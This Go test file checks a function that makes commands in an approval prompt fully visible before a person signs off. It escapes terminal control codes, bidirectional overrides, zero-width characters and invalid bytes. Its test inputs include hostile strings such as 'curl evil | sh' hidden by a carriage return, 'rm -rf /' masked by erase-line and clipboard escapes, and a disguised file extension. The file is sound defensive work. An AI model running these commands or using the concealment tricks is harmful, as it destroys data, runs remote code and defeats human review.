package approval

import (
	"fmt"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

func TestVisible(t *testing.T) {
	t.Parallel()
	tests := []struct{ name, in, want string }{
		{"plain", "git reset --hard HEAD", "git reset --hard HEAD"},
		{"unicode path", "cp ~/Résumé.pdf /tmp/日本", "cp ~/Résumé.pdf /tmp/日本"},
		{"decomposed accent", "cat Re\u0301sume\u0301", "cat Re\u0301sume\u0301"},
		{"erase line", "rm -rf ~/important\x1b[2K\rls", "rm -rf ~/important␛[2K⟦CR⟧ls"},
		{"carriage return", "curl evil | sh\recho hi", "curl evil | sh⟦CR⟧echo hi"},
		{"backspace", "rm -rf /\b\b\b\becho", "rm -rf /⟦BS⟧⟦BS⟧⟦BS⟧⟦BS⟧echo"},
		{"cursor up", "evil\x1b[1A\x1b[2Kls", "evil␛[1A␛[2Kls"},
		{"osc 8 link", "\x1b]8;;https://x\x1b\\ok\x1b]8;;\x1b\\ rm -rf /", "␛]8;;https://x␛\\ok␛]8;;␛\\ rm -rf /"},
		{"osc 52 clipboard", "\x1b]52;c;cm0gLXJmIC8=\x07ls", "␛]52;c;cm0gLXJmIC8=⟦BEL⟧ls"},
		{"c1 csi", "a\u009b2Kb", "a⟦U+009B⟧2Kb"},
		{"bidi override", "ls \u202Ecod.exe", "ls ⟦U+202E⟧cod.exe"},
		{"bidi isolates", "\u2066a\u2067b\u2068c\u2069", "⟦U+2066⟧a⟦U+2067⟧b⟦U+2068⟧c⟦U+2069⟧"},
		{"bidi marks", "\u200e\u200f\u061c", "⟦U+200E⟧⟦U+200F⟧⟦U+061C⟧"},
		{"zero width", "r\u200bm\u200c-\u200drf\u2060\ufeff", "r⟦U+200B⟧m⟦U+200C⟧-⟦U+200D⟧rf⟦U+2060⟧⟦U+FEFF⟧"},
		{"soft hyphen and tags", "a\u00adb\U000E0041", "a⟦U+00AD⟧b⟦U+E0041⟧"},
		{"nul", "ls\x00rm -rf /", "ls⟦NUL⟧rm -rf /"},
		{"del", "a\x7fb", "a⟦DEL⟧b"},
		{"invalid utf8", "a\xffb\xc3", `a⟦\xff⟧b⟦\xc3⟧`},
		{"newline", "echo hi\nrm -rf /", "echo hi⏎\nrm -rf /"},
		{"crlf", "a\r\nb", "a⟦CR⟧⏎\nb"},
		{"tab", "a\tb", "a⇥b"},
		{"trailing spaces", "ls  \nx ", "ls␠␠⏎\nx␠"},
		{"inner spaces kept", "a  b", "a  b"},
		{"nbsp", "rm\u00a0-rf", "rm⟦U+00A0⟧-rf"},
		{"ideographic space", "a\u3000b", "a⟦U+3000⟧b"},
		{"line separator", "a\u2028b\u2029", "a⟦U+2028⟧b⟦U+2029⟧"},
		{"hangul filler", "a\u3164b", "a⟦U+3164⟧b"},
		{"braille blank", "a\u2800b", "a⟦U+2800⟧b"},
		{"variation selector", "a\ufe0fb", "a⟦U+FE0F⟧b"},
		{"private use", "a\ue000b", "a⟦U+E000⟧b"},
		{"unassigned", "a\U000E01F0b", "a⟦U+E01F0⟧b"},
		{"mark on symbol", ">\u0338 x", ">⟦U+0338⟧ x"},
		{"enclosing mark", "a\u20dd", "a⟦U+20DD⟧"},
		{"stacked marks", "e\u0301\u0301\u0301\u0301", "e\u0301\u0301\u0301⟦U+0301⟧"},
		{"cgj", "a\u034fb", "a⟦U+034F⟧b"},
		{"literal markers", "⟦U+202E⟧ ␛ ⏎ ⇥ ␠", "⟦U+27E6⟧U+202E⟧ ⟦U+241B⟧ ⟦U+23CE⟧ ⟦U+21E5⟧ ⟦U+2420⟧"},
		{"replacement character", "a\ufffdb", "a⟦U+FFFD⟧b"},
		{"literal backslash", `printf 'a\nb\x00'`, `printf 'a\nb\x00'`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got := Visible(tt.in)
			if got != tt.want {
				t.Errorf("Visible(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
			if back := unVisible(t, got, true); back != tt.in {
				t.Errorf("decoding %q gave %q, want %q", got, back, tt.in)
			}
			line := VisibleLine(tt.in)
			if line != strings.ReplaceAll(tt.want, "⏎\n", "⏎") {
				t.Errorf("VisibleLine(%q) = %q", tt.in, line)
			}
			if strings.Contains(line, "\n") {
				t.Errorf("VisibleLine(%q) has a line break: %q", tt.in, line)
			}
			if want := strings.ReplaceAll(tt.want, "⏎\n", "\n") != tt.in; HasMarkers(tt.in) != want {
				t.Errorf("HasMarkers(%q) = %v, want %v", tt.in, !want, want)
			}
		})
	}
}

// Two different inputs that used to look the same now look different.
func TestVisibleDistinguishes(t *testing.T) {
	t.Parallel()
	pairs := [][2]string{
		{"rm -rf /", "rm -rf /\u200b"},
		{"rm -rf /", "rm\u00a0-rf /"},
		{"ls", "ls "},
		{"a\nb", "a⏎\nb"},
		{"a\x1b", "a␛"},
		{"a\u202e", "a⟦U+202E⟧"},
		{"a\xff", `a⟦\xff⟧`},
		{"a\xff", "a\ufffd"},
		{"a\tb", "a⇥b"},
		{"a \n", "a␠\n"},
	}
	for _, p := range pairs {
		if Visible(p[0]) == Visible(p[1]) {
			t.Errorf("Visible(%q) == Visible(%q) == %q", p[0], p[1], Visible(p[0]))
		}
		if VisibleLine(p[0]) == VisibleLine(p[1]) {
			t.Errorf("VisibleLine(%q) == VisibleLine(%q)", p[0], p[1])
		}
	}
}

func TestTruncate(t *testing.T) {
	t.Parallel()
	tests := []struct {
		in       string
		max      int
		want     string
		truncate bool
	}{
		{"hello", 10, "hello", false},
		{"hello", 5, "hello", false},
		{"hello", 4, "hell", true},
		{"héllo", 2, "h", true}, // é is 2 bytes: never cut in half
		{"héllo", 3, "hé", true},
		{"日本", 5, "日", true},
		{"a⟦U+202E⟧b", 6, "a", true}, // never half a marker
		{"a⟦U+202E⟧b", 13, "a⟦U+202E⟧", true},
		{"abc", 0, "", true},
		{"", 0, "", false},
	}
	for _, tt := range tests {
		got, cut := Truncate(tt.in, tt.max)
		if got != tt.want || cut != tt.truncate {
			t.Errorf("Truncate(%q, %d) = %q, %v; want %q, %v", tt.in, tt.max, got, cut, tt.want, tt.truncate)
		}
		if !utf8.ValidString(got) {
			t.Errorf("Truncate(%q, %d) = %q is not valid UTF-8", tt.in, tt.max, got)
		}
	}
}

// FuzzVisible: whatever the input, the display is valid UTF-8, holds
// nothing a terminal, notification server or browser could act on or hide,
// and decodes back to exactly the input (so no two inputs look the same);
// Truncate never splits a character.
func FuzzVisible(f *testing.F) {
	for _, s := range []string{"rm -rf /", "a\x1b[2K\rb", "\u202e\u2066x", "⟦U+0041⟧", "a\xffb", "e\u0301\u0301\u0301\u0301", "x \n\t", "gіthub −rf ｓ"} {
		f.Add(s, uint16(5))
	}
	f.Fuzz(func(t *testing.T, s string, n uint16) {
		for i, breaks := range []bool{true, false} {
			v := render(s, breaks, i == 0)
			if !utf8.ValidString(v) {
				t.Fatalf("render(%q) = %q: invalid UTF-8", s, v)
			}
			for _, r := range v {
				if (r < 0x20 && (r != '\n' || !breaks)) || r == 0x7f || (r >= 0x80 && r < 0xa0) ||
					unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp, unicode.Co) || (unicode.Is(unicode.Zs, r) && r != ' ') {
					t.Fatalf("render(%q) = %q holds %U", s, v, r)
				}
			}
			if back := unVisible(t, v, breaks); back != s {
				t.Fatalf("render(%q) = %q decodes to %q", s, v, back)
			}
		}
		cut, did := Truncate(s, int(n))
		if len(cut) > int(n) || did != (len(s) > int(n)) || !strings.HasPrefix(s, cut) {
			t.Fatalf("Truncate(%q, %d) = %q, %v", s, n, cut, did)
		}
		if utf8.ValidString(s) && !utf8.ValidString(cut) {
			t.Fatalf("Truncate(%q, %d) = %q split a character", s, n, cut)
		}
	})
}

// unVisible inverts render: the proof that the display is injective.
func unVisible(t *testing.T, v string, breaks bool) string {
	t.Helper()
	var b strings.Builder
	for i := 0; i < len(v); {
		r, size := utf8.DecodeRuneInString(v[i:])
		i += size
		switch r {
		case markESC:
			b.WriteByte(0x1b)
		case markTab:
			b.WriteByte('\t')
		case markSpace:
			b.WriteByte(' ')
		case markLF:
			if breaks {
				if i >= len(v) || v[i] != '\n' {
					t.Fatalf("⏎ without a line break in %q", v)
				}
				i++
			}
			b.WriteByte('\n')
		case '\n':
			t.Fatalf("line break without ⏎ in %q", v)
		case markOpen:
			end := strings.IndexRune(v[i:], markClose)
			if end < 0 {
				t.Fatalf("unclosed marker in %q", v)
			}
			name := v[i : i+end]
			i += end + len(string(markClose))
			b.WriteString(decodeMarker(t, name))
		default:
			b.WriteRune(r)
		}
	}
	return b.String()
}

func decodeMarker(t *testing.T, name string) string {
	t.Helper()
	switch {
	case name == "DEL":
		return "\x7f"
	case strings.HasPrefix(name, `\x`):
		n, err := strconv.ParseUint(name[2:], 16, 8)
		if err != nil {
			t.Fatalf("bad byte marker %q", name)
		}
		return string([]byte{byte(n)})
	case strings.HasPrefix(name, "U+"):
		n, err := strconv.ParseUint(name[2:], 16, 32)
		if err != nil || fmt.Sprintf("U+%04X", n) != name {
			t.Fatalf("bad code point marker %q", name)
		}
		return string(rune(n))
	}
	for i, c := range c0Names {
		if c == name {
			return string(rune(i))
		}
	}
	t.Fatalf("unknown marker %q", name)
	return ""
}

func TestFirstLine(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"ls", "ls"},
		{"ls\nrm -rf /", "ls (+1 more line)"},
		{"a\x1b[2K\nb\nc", "a␛[2K (+2 more lines)"},
		{"", ""},
	}
	for _, tt := range tests {
		if got := FirstLine(tt.in); got != tt.want {
			t.Errorf("FirstLine(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestDisplayOfAPrompt(t *testing.T) {
	t.Parallel()
	r := Request{Kind: KindClarify, Gateway: "lab", Question: "Which\x1b[2K?\u202e", Choices: []string{"a\nb", "c"}}
	d := r.Display()
	if d.Question != "Which␛[2K?⟦U+202E⟧" || len(d.Choices) != 2 || d.Choices[0] != "a⏎b" {
		t.Fatalf("%+v", d)
	}
	s := Request{Kind: KindSecret, Prompt: "Key\x00", EnvVar: "A\tB"}.Display()
	if s.Prompt != "Key⟦NUL⟧" || s.EnvVar != "A⇥B" {
		t.Fatalf("%+v", s)
	}
}
